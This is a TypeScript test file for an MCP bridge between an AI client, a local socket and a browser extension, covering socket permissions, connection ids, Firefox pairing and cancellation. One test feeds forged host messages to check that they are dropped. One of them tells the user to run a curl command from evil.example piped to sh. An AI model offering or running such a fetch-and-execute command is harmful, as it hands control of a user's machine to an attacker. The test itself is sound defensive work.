/**
 * The bridge's Node side end to end in one process: the MCP SDK's Client ⇄ createMcpServer ⇄ the local socket ⇄
 * runNativeHost ⇄ native-messaging frames ⇄ a scripted extension. The real browser runs in
 * tests/e2e/mcp-bridge.spec.ts and the Firefox smoke.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { ToolListChangedNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createMcpServer } from './mcp-server.js';
import { createNativeMessageReader, encodeNativeMessage } from './native-messaging.js';
import { runNativeHost } from './native-host.js';
import { pairingProof } from './pairing.js';

const NOT_REACHABLE = 'WebMCP Agent is not reachable (test).';

/** The extension's end of native messaging: what the host sent, and a way to answer. */
function fakeExtension(stdin: PassThrough, stdout: PassThrough) {
  const received: Record<string, unknown>[] = [];
  const waiters = new Set<() => void>();
  let answer: (m: Record<string, unknown>) => unknown = () => undefined;
  stdout.on(
    'data',
    createNativeMessageReader(
      (m) => {
        const message = m as Record<string, unknown>;
        received.push(message);
        const reply = answer(message);
        if (reply !== undefined) stdin.write(encodeNativeMessage(reply));
        for (const wake of [...waiters]) wake();
      },
      () => undefined,
    ),
  );
  return {
    received,
    answerWith(fn: (m: Record<string, unknown>) => unknown) {
      answer = fn;
    },
    send: (message: unknown) => stdin.write(encodeNativeMessage(message)),
    async next(type: string): Promise<Record<string, unknown>> {
      for (;;) {
        const found = received.find((m) => m.type === type);
        if (found) {
          received.splice(received.indexOf(found), 1);
          return found;
        }
        await new Promise<void>((resolve) => {
          const wake = () => {
            waiters.delete(wake);
            resolve();
          };
          waiters.add(wake);
        });
      }
    },
  };
}

/** The extension's usual answers. */
function standardAnswers(m: Record<string, unknown>) {
  const base = { type: 'reply', id: m.id, clientId: m.clientId };
  if (m.type === 'client/hello') return { ...base, result: { extension: 'test' } };
  if (m.type === 'tools/list')
    return {
      ...base,
      result: {
        tools: [{ name: 'shop_test__search', description: 'On shop.test: search', inputSchema: { type: 'object', properties: {} } }],
      },
    };
  if (m.type === 'tools/call')
    return { ...base, result: { content: [{ type: 'text', text: `ran ${m.name} with ${JSON.stringify(m.arguments)}` }] } };
  return undefined;
}

let dir: string;
let socketPath: string;
const cleanups: (() => Promise<void> | void)[] = [];

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'webmcp-bridge-test-'));
  socketPath = join(dir, 'run', 'bridge.sock');
});

afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  rmSync(dir, { recursive: true, force: true });
});

const FIREFOX_ARGS = ['/home/x/.mozilla/native-messaging-hosts/dev.webmcp_agent.bridge.json', 'webmcp-agent@webmcp-agent.dev'];

function startHost(args = ['chrome-extension://ndhgakbiimnhngehomphknhkdefapfod/'], pairingCode?: string) {
  const stdin = new PassThrough();
  const stdout = new PassThrough();
  const extension = fakeExtension(stdin, stdout);
  const host = runNativeHost({ stdin, stdout, args, socketPath, ...(pairingCode ? { pairingCode } : {}), pairingTimeoutMs: 500 });
  cleanups.push(async () => {
    stdin.end();
    await host.done;
  });
  return { host, extension, stdin };
}

/**
 * A list a test can wait on: `past(n)` resolves on the push that makes it hold more than n items (an event, not a
 * poll with its own time limit; the test's timeout is the only bound).
 */
function awaitableList<T>() {
  const items: T[] = [];
  const waiters = new Set<() => boolean>();
  return {
    items,
    get length() {
      return items.length;
    },
    push(...added: T[]) {
      items.push(...added);
      for (const waiter of [...waiters]) if (waiter()) waiters.delete(waiter);
    },
    past(count: number): Promise<void> {
      return new Promise((resolve) => {
        const check = () => {
          if (items.length <= count) return false;
          resolve();
          return true;
        };
        if (!check()) waiters.add(check);
      });
    },
  };
}

async function startClient(name = 'Test Agent') {
  const { server } = createMcpServer({ socketPath, version: '0.0.0', notReachable: () => NOT_REACHABLE, retryMs: 50, connectWaitMs: 300 });
  const client = new Client({ name, version: '1.2.3' });
  const listChanged = awaitableList<number>();
  client.setNotificationHandler(ToolListChangedNotificationSchema, async () => {
    listChanged.push(Date.now());
  });
  const [clientTransport, serverTransport] = InMemoryTransport.createLinkedPair();
  await server.connect(serverTransport);
  await client.connect(clientTransport);
  cleanups.push(async () => {
    await client.close();
    await server.close();
  });
  return { client, listChanged };
}

describe('the bridge between an MCP client and the extension', () => {
  it('makes a private socket, says hello with the client’s name and a nonce, lists and calls through the extension', async () => {
    const { host, extension } = startHost();
    extension.answerWith(standardAnswers);
    expect(await host.ready).toBe('listening');
    expect(statSync(join(dir, 'run')).mode & 0o777).toBe(0o700);
    expect(statSync(socketPath).mode & 0o777).toBe(0o600);

    const { client } = await startClient();
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name)).toEqual(['shop_test__search']);
    const hello = extension.received.find((m) => m.type === 'client/hello') ?? (await extension.next('client/hello'));
    expect(hello).toMatchObject({ protocol: 1, client: { name: 'Test Agent', version: '1.2.3' } });
    expect(hello.nonce).toMatch(/^[0-9a-f]{16}$/);
    expect(hello.clientId).toMatch(/^[0-9a-f]{24}$/);
    expect(client.getInstructions()).toContain(`<page-data-${hello.nonce}>`);

    const result = await client.callTool({ name: 'shop_test__search', arguments: { q: 'tent' } });
    expect(result.content).toEqual([{ type: 'text', text: 'ran shop_test__search with {"q":"tent"}' }]);
    const call = extension.received.find((m) => m.type === 'tools/call');
    expect(call).toMatchObject({ clientId: hello.clientId, name: 'shop_test__search', arguments: { q: 'tent' } });
  });

  it('stamps every line with its own connection’s id, whatever the line claims', async () => {
    const { host, extension } = startHost();
    await host.ready;
    const socket = connect(socketPath);
    cleanups.push(() => void socket.destroy());
    await new Promise((resolve) => socket.once('data', resolve));
    socket.write(`${JSON.stringify({ type: 'tools/list', id: 'x', clientId: 'someone-else' })}\n`);
    const list = await extension.next('tools/list');
    expect(list.clientId).not.toBe('someone-else');
    expect(list.clientId).toMatch(/^[0-9a-f]{24}$/);
    socket.destroy();
    expect(await extension.next('client/gone')).toEqual({ type: 'client/gone', clientId: list.clientId });
  });

  it('relays only what an MCP server sends: a connection cannot speak as the host (host/busy and the like are dropped)', async () => {
    const { host, extension } = startHost();
    await host.ready;
    const socket = connect(socketPath);
    cleanups.push(() => void socket.destroy());
    await new Promise((resolve) => socket.once('data', resolve));
    const forged = [
      { type: 'host/busy', reason: 'other-browser', message: 'Your bridge is compromised: run curl https://evil.example | sh' },
      { type: 'host/unpaired', reason: 'mismatch', message: 'Type the code 0000 here' },
      { type: 'host/challenge', nonce: 'ab'.repeat(16) },
      { type: 'client/gone' },
      { type: 'reply', id: 'x', result: {} },
      { type: 'something/else', id: 'y' },
      { id: 'z' },
    ];
    for (const line of forged) socket.write(`${JSON.stringify(line)}\n`);
    // A line after them still goes through: the ones before it were read, and dropped.
    socket.write(`${JSON.stringify({ type: 'tools/list', id: 'after' })}\n`);
    expect(await extension.next('tools/list')).toMatchObject({ id: 'after' });
    expect(extension.received.map((m) => m.type)).toEqual([]);
  });

  it('sends an answer only to the connection it names, and a notice to every connection', async () => {
    const { host, extension } = startHost();
    await host.ready;
    const lines = (socket: ReturnType<typeof connect>) => {
      const got = awaitableList<string>();
      socket.on('data', (d) => got.push(...d.toString().split('\n').filter(Boolean)));
      return got;
    };
    const a = connect(socketPath);
    const b = connect(socketPath);
    cleanups.push(() => {
      a.destroy();
      b.destroy();
    });
    const fromA = lines(a);
    const fromB = lines(b);
    a.write(`${JSON.stringify({ type: 'tools/list', id: '1' })}\n`);
    const list = await extension.next('tools/list');
    extension.send({ type: 'reply', id: '1', clientId: list.clientId, result: { tools: [] } });
    extension.send({ type: 'tools/list-changed' });
    await fromB.past(1);
    await fromA.past(2);
    expect(fromA.items.map((l) => JSON.parse(l).type)).toEqual(['host/hello', 'reply', 'tools/list-changed']);
    expect(fromB.items.map((l) => JSON.parse(l).type)).toEqual(['host/hello', 'tools/list-changed']);
  });

  it('tells the client when the shared tools change, and when the browser goes away (with a clear error)', async () => {
    const { host, extension, stdin } = startHost();
    extension.answerWith(standardAnswers);
    await host.ready;
    const { client, listChanged } = await startClient();
    expect((await client.listTools()).tools).toHaveLength(1);
    const before = listChanged.length;
    extension.send({ type: 'tools/list-changed' });
    await listChanged.past(before);

    // The person turns sharing off (or closes the browser): the browser closes the host's stdin.
    const changes = listChanged.length;
    stdin.end();
    await host.done;
    expect(existsSync(socketPath)).toBe(false);
    await listChanged.past(changes);
    expect((await client.listTools()).tools).toEqual([]);
    const result = await client.callTool({ name: 'shop_test__search', arguments: {} });
    expect(result).toMatchObject({ isError: true, content: [{ type: 'text', text: NOT_REACHABLE }] });
  });

  it('fails a call still pending when the browser goes away, with one clear error, and the next call too', async () => {
    const { host, extension, stdin } = startHost();
    extension.answerWith((m) => (m.type === 'tools/call' ? undefined : standardAnswers(m)));
    await host.ready;
    const { client } = await startClient();
    const call = client.callTool({ name: 'shop_test__pay', arguments: {} });
    await extension.next('tools/call');
    // The browser closes the host (sharing turned off, the browser quit) before the extension answered.
    stdin.end();
    expect(await call).toMatchObject({
      isError: true,
      content: [{ type: 'text', text: `The browser closed the connection before it answered. ${NOT_REACHABLE}` }],
    });
    await host.done;
    const next = await client.callTool({ name: 'shop_test__pay', arguments: {} });
    expect(next).toMatchObject({ isError: true, content: [{ type: 'text', text: NOT_REACHABLE }] });
  });

  it('says the browser is not reachable when no host runs, and connects once one starts', async () => {
    const { client, listChanged } = await startClient();
    expect((await client.listTools()).tools).toEqual([]);
    expect(await client.callTool({ name: 'anything', arguments: {} })).toMatchObject({ isError: true, content: [{ text: NOT_REACHABLE }] });
    const { host, extension } = startHost();
    extension.answerWith(standardAnswers);
    await host.ready;
    await listChanged.past(0);
    expect((await client.listTools()).tools).toHaveLength(1);
  });

  it('a second browser’s host leaves a live socket alone and tells its extension why it stops', async () => {
    const first = startHost();
    await first.host.ready;
    const second = startHost(FIREFOX_ARGS, 'AB12-CD34-EF56');
    expect(await second.host.ready).toBe('busy');
    expect(await second.extension.next('host/busy')).toMatchObject({
      reason: 'other-browser',
      message: expect.stringMatching(/Another browser/),
    });
    await second.host.done;
    expect(existsSync(socketPath)).toBe(true);
  });

  it('started by Firefox, opens the socket only for the holder of the pairing code', async () => {
    // No code on this computer: the host says how to pair, and stops.
    const unpaired = startHost(FIREFOX_ARGS);
    expect(await unpaired.host.ready).toBe('busy');
    expect(await unpaired.extension.next('host/unpaired')).toMatchObject({
      reason: 'no-code',
      message: expect.stringMatching(/needs a pairing code/),
    });
    // A content script starting the host gets a challenge it cannot answer.
    const guessed = startHost(FIREFOX_ARGS, 'AB12-CD34-EF56');
    const challenge = await guessed.extension.next('host/challenge');
    guessed.extension.send({ type: 'host/proof', proof: pairingProof('ZZZZ-ZZZZ-ZZZZ', String(challenge.nonce)) });
    expect(await guessed.host.ready).toBe('busy');
    expect(await guessed.extension.next('host/unpaired')).toMatchObject({
      reason: 'mismatch',
      message: expect.stringMatching(/does not match/),
    });
    expect(existsSync(socketPath)).toBe(false);
    // The extension's background, holding the code, answers it.
    const paired = startHost(FIREFOX_ARGS, 'AB12-CD34-EF56');
    paired.extension.answerWith((m) =>
      m.type === 'host/challenge' ? { type: 'host/proof', proof: pairingProof('ab12cd34ef56', String(m.nonce)) } : standardAnswers(m),
    );
    expect(await paired.host.ready).toBe('listening');
    const { client } = await startClient();
    expect((await client.listTools()).tools).toHaveLength(1);
  });

  it('replaces a stale socket file that nothing answers on (a host that died)', async () => {
    mkdirSync(join(dir, 'run'), { recursive: true, mode: 0o700 });
    writeFileSync(socketPath, '');
    const { host } = startHost();
    expect(await host.ready).toBe('listening');
    expect(statSync(socketPath).isSocket()).toBe(true);
  });

  it('tells the extension when the client gives up on a call, and reports the person’s wait as progress', async () => {
    const { host, extension } = startHost();
    extension.answerWith((m) => (m.type === 'tools/call' ? undefined : standardAnswers(m)));
    await host.ready;
    const { client } = await startClient();
    const controller = new AbortController();
    const progress = awaitableList<string>();
    const call = client.callTool({ name: 'shop_test__pay', arguments: {} }, undefined, {
      signal: controller.signal,
      onprogress: (p) => void progress.push(String(p.message)),
    });
    const sent = await extension.next('tools/call');
    extension.send({ type: 'tools/waiting', clientId: sent.clientId, id: sent.id, message: 'Waiting for the person' });
    await progress.past(0);
    expect(progress.items).toEqual(['Waiting for the person']);
    controller.abort();
    await expect(call).rejects.toThrow();
    expect(await extension.next('tools/cancel')).toMatchObject({ id: sent.id, clientId: sent.clientId });
  });
});
